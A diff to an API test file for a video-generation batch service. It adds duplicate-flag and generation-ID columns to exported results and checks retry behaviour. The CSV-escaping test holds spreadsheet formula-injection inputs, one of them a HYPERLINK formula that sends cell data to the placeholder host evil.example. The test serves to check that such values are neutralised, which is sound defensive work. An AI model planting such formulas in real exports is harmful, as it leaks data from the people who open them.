@@ -70,6 +70,7 @@ describe('GET /v1/batches/:id/results', () => {
         error_code: null,
         error_message: null,
         generation_id: 'g1',
+        generation_ids: ['g1'],
         cost_usd: 0.125,
         prompt: 'a red fox',
         model: 'sber-ai/kandinsky5-distill-t2v',
@@ -96,10 +97,10 @@ describe('GET /v1/batches/:id/results', () => {
     expect(csv.headers['content-type']).toMatch(/text\/csv/);
     expect(csv.headers['content-disposition']).toContain(`${id}.results.csv`);
     expect(csv.body.trim().split('\n')).toEqual([
-      'row,custom_id,status,video_url,error_code,error_message,generation_id,cost_usd,prompt,model,campaign,note',
-      '1,fox,completed,https://cdn.example/v1.mp4,,,g1,0.125,a red fox,sber-ai/kandinsky5-distill-t2v,winter,"a, b"',
-      '3,light,queued,,,,,,a lighthouse,sber-ai/kandinsky5-distill-t2v,spring,',
-      '4,waves,failed,,generation_failed,"NSFW, refused",,,"waves ""big""",sber-ai/kandinsky5-distill-t2v,autumn,last',
+      'row,custom_id,status,video_url,error_code,error_message,generation_id,cost_usd,prompt,model,possible_duplicate,generation_ids,campaign,note',
+      '1,fox,completed,https://cdn.example/v1.mp4,,,g1,0.125,a red fox,sber-ai/kandinsky5-distill-t2v,,g1,winter,"a, b"',
+      '3,light,queued,,,,,,a lighthouse,sber-ai/kandinsky5-distill-t2v,,,spring,',
+      '4,waves,failed,,generation_failed,"NSFW, refused",,,"waves ""big""",sber-ai/kandinsky5-distill-t2v,,,autumn,last',
     ]);
     expect((await view(id)).cost_usd).toBe(0.125);
   });
@@ -120,13 +121,13 @@ describe('GET /v1/batches/:id/results', () => {
     expect(out.statusCode).toBe(200);
     const lines = out.body.split('\n');
     expect(lines[0]).toBe(
-      "row,custom_id,status,video_url,error_code,error_message,generation_id,cost_usd,prompt,model,'=cmd,note",
+      "row,custom_id,status,video_url,error_code,error_message,generation_id,cost_usd,prompt,model,possible_duplicate,generation_ids,'=cmd,note",
     );
     expect(lines[1]).toBe(
-      `1,'+1,failed,,generation_failed,'=1+1,,,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",sber-ai/kandinsky5-distill-t2v,'@SUM(A1),'-2+3`,
+      `1,'+1,failed,,generation_failed,'=1+1,,,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",sber-ai/kandinsky5-distill-t2v,,,'@SUM(A1),'-2+3`,
     );
     expect(lines[2]).toBe(
-      `2,plain,failed,,generation_failed,"'\r=1",,,a calm lake,sber-ai/kandinsky5-distill-t2v,'\tx,ok`,
+      `2,plain,failed,,generation_failed,"'\r=1",,,a calm lake,sber-ai/kandinsky5-distill-t2v,,,'\tx,ok`,
     );
     // JSONL carries the values as they are: it is not opened by spreadsheets.
     const jsonl = await t.app.inject({ method: 'GET', url: `/v1/batches/${id}/results` });
@@ -215,6 +216,15 @@ describe('POST /v1/batches/:id/retry', () => {
     expect(one?.data.input.prompt).toBe('a red fox');
     expect(one?.data.metadata).toEqual({ campaign: 'winter', note: 'a, b' });
     expect(four?.data.possibleDuplicate).toBeUndefined();
+    // The flag shows on the row and in the batch's count, with the earlier generation kept.
+    expect(b.possible_duplicates).toBe(1);
+    const results = await t.app.inject({ method: 'GET', url: `/v1/batches/${id}/results` });
+    const [r1, , r4] = results.body
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l) as Record<string, unknown>);
+    expect(r1).toMatchObject({ status: 'queued', possible_duplicate: true, generation_ids: ['g?'] });
+    expect(r4?.possible_duplicate).toBeUndefined();
 
     // Nothing failed any more: a second retry queues nothing.
     const again = await t.app.inject({ method: 'POST', url: `/v1/batches/${id}/retry`, payload: {} });
